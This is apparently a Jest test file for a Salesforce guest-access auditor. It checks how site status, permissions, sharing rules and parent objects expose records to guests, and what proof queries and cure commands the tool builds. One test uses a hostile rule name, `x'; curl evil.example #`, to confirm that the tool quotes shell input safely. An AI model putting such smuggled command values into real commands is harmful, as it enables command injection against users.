// Which records a guest reads: every combination of site, permission and sharing rule, each of them yes, no or unknown.
import { describe, expect, test } from '@jest/globals';
import { breadth } from '../../../src/providers/salesforce/guest/breadth.ts';
import { judgeSite, lines, may, object, permissions, rule, sharing, site } from './org.ts';

const live = {
  yes: site(),
  no: site({ networkStatus: 'UnderConstruction' }),
  unknown: site({ networkStatus: undefined }),
};
const permission = {
  yes: permissions([may('Contact', 'read')]),
  no: permissions([may('Contact')]),
  unknown: permissions(undefined),
};
const share = {
  yes: sharing([rule('Contact')]),
  no: sharing([]),
  unknown: sharing(undefined, { covers: undefined }),
};

describe('guest records by Kleene logic', () => {
  test.each([
    ['yes', 'yes', 'yes', ['open list+read guest-rule Contact']],
    ['unknown', 'yes', 'yes', ['open-unless list+read guest-rule Contact']],
    ['no', 'yes', 'yes', ['shut-by list+read guest-rule Contact']],
    ['yes', 'no', 'yes', ['shut-by read guest-rule Contact']],
    ['yes', 'unknown', 'yes', ['unknown list+read guest-rule Contact']],
    ['no', 'unknown', 'yes', []],
    ['yes', 'yes', 'no', ['shut-by read guest-permission']],
    ['no', 'yes', 'no', []],
    ['yes', 'yes', 'unknown', ['unknown read guest-rule']],
    ['no', 'yes', 'unknown', []],
    ['yes', 'no', 'no', []],
    ['yes', 'no', 'unknown', []],
    ['yes', 'unknown', 'no', []],
    ['yes', 'unknown', 'unknown', ['unknown read guest-rule']],
    ['no', 'unknown', 'unknown', []],
  ] as const)('site live %s, permission %s, rule %s', (alive, permit, shared, expected) => {
    const assessment = judgeSite(live[alive], permission[permit], share[shared], object('Contact'));
    expect(lines(assessment)).toEqual(expected);
    for (const exposure of assessment.exposures) {
      const explained = exposure.state === 'unknown' || exposure.state === 'open-unless';
      expect((exposure.missing ?? []).length > 0).toBe(explained);
      expect(exposure.guard !== undefined).toBe(
        exposure.state === 'shut-by' || exposure.state === 'open-unless',
      );
    }
  });

  test('the proof is checked, and each cure is judged again', () => {
    const [found] = judgeSite(live.yes, permission.yes, share.yes, object('Contact')).exposures;
    expect(found?.witness).toEqual({
      request: {
        principal: 'guest user of site Kagi_Support',
        action: 'read',
        resource: 'Contact',
        context: { site: '/support' },
      },
      command: `sf data query --query "SELECT COUNT() FROM ContactShare WHERE RowCause = 'GuestRule'"`,
      checked: true,
    });
    const custom = judgeSite(site(), permissions([may('Deal__c', 'read')]), sharing([rule('Deal__c')]));
    expect(custom.exposures[0]?.witness?.command).toContain('FROM Deal__Share ');
    expect(found?.cures?.map(({ rejudged }) => rejudged)).toEqual([true, true]);
    expect(found?.evidence.map(({ setting }) => setting)).toEqual([
      'guestRules',
      'objectPermissions',
      'active',
      'readableFields',
    ]);
  });

  test('names from the org cannot break out of a command', () => {
    const name = `x'; curl evil.example #`;
    const hostile = sharing([rule('Contact', { name })]);
    const [found] = judgeSite(site(), permission.yes, hostile, object('Contact')).exposures;
    expect(found?.cures?.[0]?.command).toBe(
      `sf project delete source --metadata 'SharingGuestRule:Contact.x'\\''; curl evil.example #'`,
    );
    const odd = judgeSite(site(), permissions([may('A"; b', 'read')]), sharing([rule('A"; b')]));
    expect(odd.exposures[0]?.witness).toBeDefined();
    expect(odd.exposures[0]?.witness?.command).toBeUndefined();
  });

  test('a cure that leaves another way open is not called one', () => {
    const twice = sharing([rule('Contact'), rule('Contact', { name: 'Second' })]);
    const [found] = judgeSite(site(), permission.yes, twice, object('Contact')).exposures;
    expect(found?.cures?.map(({ rejudged }) => rejudged)).toEqual([false, true]);
  });

  test('org-wide defaults open nothing to guests, however public', () => {
    const open = object('Contact', { sharingModel: 'ReadWrite', externalSharingModel: 'ReadWrite' });
    expect(lines(judgeSite(site(), permission.yes, share.no, open))).toEqual([
      'shut-by read guest-permission',
    ]);
  });

  test('a rule for another site is none for this one', () => {
    const other = sharing([rule('Contact', { guestUsers: ['Kagi_Partners'] })]);
    expect(lines(judgeSite(site(), permission.yes, other, object('Contact')))).toEqual([
      'shut-by read guest-permission',
    ]);
  });

  test('permission sets count, and unreadable assignments leave the verdict open', () => {
    const extra = permissions([may('Contact', 'read')], {
      name: 'Extra',
      kind: 'permission-set',
      license: null,
    });
    const both = [permission.no, extra, share.yes, object('Contact')];
    expect(lines(judgeSite(site({ guestPermissionSets: ['Extra'] }), ...both))).toEqual([
      'open list+read guest-rule Contact',
    ]);
    expect(lines(judgeSite(site({ guestPermissionSets: undefined }), ...both))).toEqual([
      'unknown list+read guest-rule Contact',
    ]);
    const exported = site();
    delete exported.settings['guestPermissionSets'];
    exported.unknowns.push({ setting: 'guestPermissionSets', reason: 'not-held' });
    expect(lines(judgeSite(exported, ...both))).toEqual(['shut-by read guest-rule Contact']);
  });

  test('an object that a file profile does not mention is unknown, not refused', () => {
    const partial = permissions([], { covers: 'listed-objects', inEffect: false });
    const [found] = judgeSite(site(), partial, share.yes, object('Contact')).exposures;
    expect(found?.state).toBe('unknown');
    expect(found?.missing?.[0]?.detail).toContain('without Contact');
  });

  test('rules of an object that was not retrieved are unknown', () => {
    const partial = sharing([], { covers: 'listed-objects', coveredObjects: ['Account'] });
    expect(lines(judgeSite(site(), permission.yes, partial, object('Contact')))).toEqual([
      'unknown read guest-rule',
    ]);
    const lost = sharing([], { unreadObjects: ['Contact'] });
    expect(lines(judgeSite(site(), permission.yes, lost, object('Contact')))).toEqual([
      'unknown read guest-rule',
    ]);
  });

  test('sensitive fields are named, by label too', () => {
    const fields = permissions([may('Refund__c', 'read')], {
      readableFields: { Refund__c: ['A1__c', 'Note__c'] },
    });
    const described = object('Refund__c', { fields: [{ name: 'A1__c', label: '口座番号' }] });
    const [found] = judgeSite(site(), fields, sharing([rule('Refund__c')]), described).exposures;
    expect(found?.sensitive?.ja).toContain('A1__c (口座・カード情報)');
    const unread = permissions([may('Refund__c', 'read')], { readableFields: undefined });
    const [blind] = judgeSite(site(), unread, sharing([rule('Refund__c')]), described).exposures;
    expect(blind?.evidence.at(-1)?.text.en).toContain('could not be read');
  });
});

describe('what nothing hides', () => {
  const request = sharing([rule('Refund__c')]);
  const seen = (fields: object[], ...around: Parameters<typeof judgeSite>) =>
    judgeSite(...around, request, object('Refund__c', { fields })).exposures[0];
  const bank = { name: 'Bank__c', label: '口座番号' };

  test('a required field is read with the record, whatever the profile says of fields', () => {
    const profile = permissions([may('Refund__c', 'read')]);
    expect(seen([bank], site(), profile)?.sensitive).toBeUndefined();
    const found = seen([{ ...bank, required: true }], site(), profile);
    expect(found?.sensitive?.en).toContain('Bank__c');
    expect(found?.evidence.at(-1)?.text.en).toBe('readable: the name and required fields');
  });

  test('View All Fields reads every field that is described', () => {
    const profile = permissions([{ ...may('Refund__c', 'read'), viewAllFields: true }]);
    const found = seen([bank], site(), profile);
    expect(found?.sensitive?.en).toContain('Bank__c');
    expect(found?.evidence.at(-1)?.text.en).toContain('every field');
  });

  test('a classified field that is required counts as readable', () => {
    const fields = [{ name: 'Tax__c', classification: 'Restricted', required: true }];
    const around = [request, object('Refund__c', { fields })];
    const judged = judgeSite(site(), permissions([may('Refund__c', 'read')]), ...around);
    expect(judged.facts['classifiedFields']).toEqual(['Refund__c.Tax__c (Restricted)']);
  });
});

describe('objects that no rule can name', () => {
  test('big objects, events and metadata stand apart from what a rule would open', () => {
    const all = permissions(['Log__b', 'Ping__e', 'Contact'].map((name) => may(name, 'read')));
    const { exposures } = judgeSite(site(), all, sharing([]), object('Contact'));
    expect(exposures.map(({ subjectName, guard }) => [subjectName, guard?.en.split(',')[0]])).toEqual([
      ['Contact', 'the lack of a guest sharing rule for these records'],
      ['Log__b, Ping__e', "the platform's own default for guests"],
    ]);
    // A road of its own each: doors of one road and no subject are one.
    expect(new Set(exposures.map(({ via }) => via)).size).toBe(2);
  });

  test('an event is published, and nobody owns it', () => {
    const profile = permissions([may('Ping__e', 'create')]);
    const { exposures } = judgeSite(site(), profile, sharing([]));
    expect(exposures.map(({ via }) => via)).toEqual(['guest-publish']);
    expect(exposures[0]?.evidence.some(({ setting }) => setting === 'defaultOwner')).toBe(false);
  });
});

describe('records by their parent', () => {
  const line = permissions([may('Line__c', 'read')]);
  const controlled = object('Line__c', { sharingModel: 'ControlledByParent', masters: ['Order__c'] });

  test('a rule on the parent shares the child', () => {
    const assessment = judgeSite(site(), line, sharing([rule('Order__c')]), controlled, object('Order__c'));
    expect(lines(assessment)).toContain('open list+read guest-rule Line__c');
    expect(assessment.exposures.find(({ subject }) => subject === 'Line__c')?.witness?.checked).toBe(true);
  });

  test('two levels up, and a circle ends', () => {
    const middle = object('Order__c', {
      sharingModel: 'ControlledByParent',
      masters: ['Deal__c', 'Line__c'],
    });
    expect(
      lines(judgeSite(site(), line, sharing([rule('Deal__c')]), controlled, middle, object('Deal__c'))),
    ).toContain('open list+read guest-rule Line__c');
    expect(lines(judgeSite(site(), line, sharing([]), controlled, middle, object('Deal__c')))).toEqual([
      'shut-by read guest-permission',
    ]);
  });

  test('a contact by its account: the proof knows the parents that Salesforce gives', () => {
    const contact = object('Contact', { sharingModel: 'ControlledByParent', masters: undefined });
    const judged = judgeSite(site(), permission.yes, sharing([rule('Account')]), contact);
    const found = judged.exposures.find(({ subject }) => subject === 'Contact');
    expect(found?.state).toBe('open');
    expect(found?.witness?.checked).toBe(true);
  });

  test('an unknown model is unknown only where a parent is shared', () => {
    const contact = permissions([may('Contact', 'read')]);
    const undescribed = object('Contact', { sharingModel: undefined, masters: undefined });
    expect(lines(judgeSite(site(), contact, sharing([rule('Account')]), undescribed))).toContain(
      'unknown read guest-rule',
    );
    expect(lines(judgeSite(site(), contact, sharing([]), undescribed))).toEqual([
      'shut-by read guest-permission',
    ]);
  });
});

describe('how much a rule shares', () => {
  const filled = (field: string, value = '') => ({ field, operation: 'notEqual', value });
  test('of two rules the wider one speaks', () => {
    const some = rule('Contact', { criteria: [{ field: 'A', operation: 'equals', value: '1' }] });
    const both = sharing([some, rule('Contact', { name: 'All' })]);
    const [found] = judgeSite(site(), permission.yes, both, object('Contact')).exposures;
    expect(found?.access).toEqual(['list', 'read']);
    expect(found?.evidence[0]?.text.en).toContain('guest rule All shares every record');
  });

  const equals = (field: string, value: string) => ({ field, operation: 'equals', value });
  const real = equals('A', '1');
  test.each([
    ['no criteria', [], undefined, 'every'],
    ['the name is not empty', [filled('Name')], undefined, 'every'],
    ['the name is not null', [filled('LastName', 'null')], undefined, 'every'],
    ['an optional field is not empty', [filled('Contact__c')], undefined, 'every-filled'],
    ['a value is asked for', [{ field: 'Status', operation: 'equals', value: 'Open' }], undefined, 'part'],
    [
      'one of two is real',
      [filled('Name'), { field: 'A', operation: 'equals', value: '1' }],
      undefined,
      'part',
    ],
    ['either of two', [filled('Name'), { field: 'A', operation: 'equals', value: '1' }], '1 OR 2', 'every'],
    ['nothing at all', [filled('Name')], 'NOT 1', 'part'],
    ['not empty, said by NOT', [equals('Name', '')], 'NOT 1', 'every'],
    ['not empty, said by NOT, of an optional field', [equals('Contact__c', '')], 'NOT 1', 'every-filled'],
    ['either all or two more', [filled('Name'), real, equals('B', '2')], '1 OR (2 AND 3)', 'every'],
    ['AND binds before OR', [real, equals('B', '2'), filled('Name')], '1 AND 2 OR 3', 'every'],
    ['two must hold', [filled('Name'), real], '(1 AND 2)', 'part'],
    ['ticked or not', [equals('Public__c', 'True'), equals('Public__c', 'False')], '1 OR 2', 'every'],
    ['ticked and not', [equals('Public__c', 'True'), equals('Public__c', 'False')], '1 AND 2', 'part'],
    ['a value or every other', [equals('Stage', 'New'), filled('Stage', 'new')], '1 OR 2', 'every'],
    ['a value or another', [equals('Stage', 'New'), equals('Stage', 'Old')], '1 OR 2', 'part'],
    ['turned around', [equals('A', '1'), filled('A', '1')], 'NOT (1 AND 2)', 'every'],
    ['an optional field or a real one', [filled('Contact__c'), real], '1 OR 2', 'every-filled'],
    ['logic that names no criterion', [filled('Name')], '1 OR 9', 'part'],
    ['logic that does not parse', [filled('Name')], '1 OR (', 'part'],
    ['logic in lower case', [filled('Name'), real], '1 or 2', 'every'],
    ['not equal to something', [filled('Name', 'Kagi')], undefined, 'part'],
  ] as const)('%s', (_name, criteria, logic, expected) => {
    expect(breadth(rule('X', { criteria: [...criteria], ...(logic === undefined ? {} : { logic }) }))).toBe(
      expected,
    );
  });

  test('part of the records cannot be listed as a whole; nor without Lightning requests', () => {
    const contact = permissions([may('Contact', 'read')]);
    const some = sharing([rule('Contact', { criteria: [{ field: 'A', operation: 'equals', value: '1' }] })]);
    expect(lines(judgeSite(site(), contact, some, object('Contact')))).toEqual([
      'open read guest-rule Contact',
    ]);
    expect(lines(judgeSite(site({ auraRequests: false }), contact, share.yes, object('Contact')))).toEqual([
      'open read guest-rule Contact',
    ]);
  });
});
